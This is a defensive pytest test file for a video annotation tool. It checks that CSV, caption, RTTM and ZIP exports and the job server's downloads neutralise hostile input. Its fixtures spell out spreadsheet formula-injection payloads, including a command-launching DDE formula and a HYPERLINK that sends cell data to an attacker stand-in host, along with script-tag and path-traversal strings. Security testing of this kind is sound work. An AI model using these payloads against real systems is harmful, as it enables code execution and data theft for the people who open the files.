"""HOSTILE.md, Exports: what comes out is data to whoever opens it, and what comes in stays where it belongs."""

import csv
import io
import json
import re
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from tests.clips import Clips
from tests.declared import declare
from tests.misbehaving.exports_nastily import SCRIPT
from tests.server import Served, serving
from videoannotator.annotations import Turn, Utterance
from videoannotator.formats.captions import read_webvtt, write_srt, write_webvtt
from videoannotator.formats.rttm import read_rttm, write_rttm
from videoannotator.formats.table import read_table, write_turn_table
from videoannotator.formats.uem import write_uem
from videoannotator.formats.words import write_word_table

on_one_server = pytest.mark.asyncio(loop_scope="module")

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",
]
"""As https://owasp.org/www-community/attacks/CSV_Injection lists how one can begin, full-width signs included."""

LABELS = [
    *FORMULAS,
    SCRIPT,
    "</v><script>x</script>",
    "a\nSPEAKER f 1 0 9 <NA> <NA> B <NA> <NA>",
    "a\n\n00:00:00.000 --> 00:01:00.000\nforged",
    '",forged,"',
    "\u202egnp.exe",
    "a\0b",
    " ",
    "x" * 10_000,
]


@pytest.fixture(params=LABELS, ids=range(len(LABELS)))
def label(request: pytest.FixtureRequest) -> str:
    text: str = request.param
    return text


def test_a_label_is_one_cell_that_runs_nowhere(label: str, tmp_path: Path) -> None:
    """In each table with free text: a spreadsheet that opens it must compute nothing, and no row is forged."""
    write_turn_table(tmp_path / "turns.csv", [Turn(0.0, 1.0, label)])
    write_word_table(tmp_path / "words.csv", [Utterance(0.0, 1.0, label, speaker=label)])

    for file in ("turns.csv", "words.csv"):
        with (tmp_path / file).open(encoding="utf-8", newline="") as content:
            _, *rows = csv.reader(content)
        cells = [cell for row in rows for cell in row]
        assert len(rows) == 1
        assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")]
    assert read_table(tmp_path / "turns.csv")[0]["label"] == label.replace("\r", "\n")


def test_a_label_is_one_line_and_no_markup_in_captions_and_turns(label: str, tmp_path: Path) -> None:
    """One cue for one utterance, one line for one turn, whatever was said."""
    write_webvtt(tmp_path / "a.vtt", [Utterance(0.0, 1.0, label, speaker=label)], speakers=True)
    write_srt(tmp_path / "a.srt", [Utterance(0.0, 1.0, label, speaker=label)])
    write_rttm(tmp_path / "a.rttm", [Turn(0.0, 1.0, label)], uri=label)
    write_uem(tmp_path / "a.uem", [(0.0, 1.0)], uri=label)

    captions = (tmp_path / "a.vtt").read_text()
    said = bool(read_webvtt(tmp_path / "a.vtt"))
    assert captions.count("-->") == (tmp_path / "a.srt").read_text().count("-->") == said
    assert "<script" not in captions
    assert len((tmp_path / "a.rttm").read_text().splitlines()) == len(read_rttm(tmp_path / "a.rttm")) == 1
    assert len((tmp_path / "a.rttm").read_text().split()) == 10
    assert len((tmp_path / "a.uem").read_text().split()) == 4


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def nasty(tmp_path_factory: pytest.TempPathFactory, clips: Clips) -> AsyncIterator[tuple[Served, str]]:
    """A job whose files, log and video's name want to be run."""
    folder = tmp_path_factory.mktemp("nasty")
    declared = declare(folder / "pipelines", "exports_nastily", "names_its_file_badly")
    clip = folder / "<script>alert(1)<.mp4"
    clip.write_bytes(clips.path("no_sound.mp4").read_bytes())
    async with serving(folder, pipeline_dirs=(declared,)) as server:
        job = await server.finished(clip, "exports_nastily", tags="=1+1")
        assert job["status"] == "completed", job
        yield server, job["id"]


@on_one_server
@pytest.mark.parametrize("name", ["page.html", "picture.svg", "labels.json", "manifest.json"])
async def test_files_are_downloads_and_never_pages_of_this_server(nasty: tuple[Served, str], name: str) -> None:
    """A script in one would else read every child's video with its reader's key."""
    server, job_id = nasty

    answer = await server.http.get(f"/api/v1/jobs/{job_id}/files/{name}")

    assert answer.status_code == 200
    assert answer.headers["content-disposition"].startswith("attachment; ")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in answer.headers["content-security-policy"]


@on_one_server
async def test_no_answer_repeats_markup_of_a_name(nasty: tuple[Served, str]) -> None:
    """The Viewer writes the job into a page as it comes."""
    server, job_id = nasty

    for path in ("", "/manifest", "/results"):
        answer = await server.http.get(f"/api/v1/jobs/{job_id}{path}")
        assert answer.headers["content-type"].partition(";")[0] == "application/json"
        assert "<" not in answer.text
        assert answer.headers["x-content-type-options"] == "nosniff"
    log = await server.http.get(f"/api/v1/jobs/{job_id}/logs", headers={"accept": "text/plain"})
    assert log.headers["content-type"].partition(";")[0] == "text/plain"
    assert log.headers["x-content-type-options"] == "nosniff"


@on_one_server
async def test_the_zip_unpacks_into_its_own_folder(nasty: tuple[Served, str], tmp_path: Path) -> None:
    """Flat names of plain characters, each once: safe for every unpacker, also a careless one."""
    server, job_id = nasty

    answer = await server.http.get(f"/api/v1/jobs/{job_id}/artifacts")

    archive = zipfile.ZipFile(io.BytesIO(answer.content))
    names = archive.namelist()
    assert len(names) == len(set(map(str.casefold, names)))
    assert not [name for name in names if re.search(r'[/\\<>:"|?*\0-\x1f]', name) or name.startswith(".")]
    assert not [entry for entry in archive.infolist() if entry.is_dir() or entry.external_attr >> 28 != 0o10]
    assert re.fullmatch(r'attachment; filename="[\w.-]+"; filename\*=UTF-8\'\'[\w.%-]+',
                        answer.headers["content-disposition"])  # fmt: skip


@on_one_server
@pytest.mark.parametrize(
    "name",
    [
        *("../evil.json", "/tmp/evil.json", "a/b.json", "..", ".hidden.json", "manifest.json", "MANIFEST.JSON", ""),
        *("<script>.json", "a\nb.json", "a\\b.json", "%2e%2e.json", "x" * 300, "\u202egnp.json", "-rf", "nul\0.json"),
    ],
)
async def test_a_pipeline_cannot_give_a_file_a_name_that_leads_elsewhere(
    nasty: tuple[Served, str], clips: Clips, name: str
) -> None:
    """Names become addresses, entries of the ZIP and files on other people's disks."""
    server, _ = nasty
    config = json.dumps({"names_its_file_badly": {"pids": name}})

    job = await server.finished(clips.path("no_sound.mp4"), "names_its_file_badly", config=config)

    assert job["status"] == "failed"
    assert job["error_code"] in ("OUTPUT_NOT_A_FILE", "OUTPUT_MISSING", "OUTPUT_NOT_DECLARED")
    assert "<" not in job["error_message"]
    results = (await server.http.get(f"/api/v1/jobs/{job['id']}/results")).json()["results"]
    assert results["names_its_file_badly"]["files"] == []
